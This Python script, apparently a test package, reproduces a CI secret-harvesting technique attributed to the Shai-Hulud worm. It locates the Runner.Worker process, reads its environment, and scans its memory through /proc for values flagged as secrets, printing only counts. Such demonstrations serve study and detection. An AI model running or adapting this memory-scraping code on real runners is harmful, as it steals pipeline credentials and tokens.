# Test package: finds the CI runner worker and reads its environment and memory through
# /proc, the way the 2025 Shai-Hulud worm pulled secrets out of Runner.Worker.
import os, re
for pid in os.listdir('/proc'):
    if not pid.isdigit():
        continue
    try:
        comm = open(f'/proc/{pid}/comm').read().strip()
    except OSError:
        continue
    if 'Runner.Worker' not in comm:
        continue
    try:
        env = open(f'/proc/{pid}/environ', 'rb').read()
    except OSError as e:
        env = b''
    found = b''
    try:
        with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb') as mem:
            for line in maps:
                m = re.match(r'([0-9a-f]+)-([0-9a-f]+) rw', line)
                if not m:
                    continue
                start, end = int(m.group(1), 16), int(m.group(2), 16)
                if end - start > 64 << 20:
                    continue
                try:
                    mem.seek(start)
                    chunk = mem.read(end - start)
                except OSError:
                    continue
                for hit in re.findall(rb'"value":\s*"([^"]+)",\s*"isSecret":\s*true', chunk):
                    found += hit + b'\n'
    except OSError:
        pass
    print('runner', pid, 'env bytes', len(env), 'secrets', found.count(b'\n'))
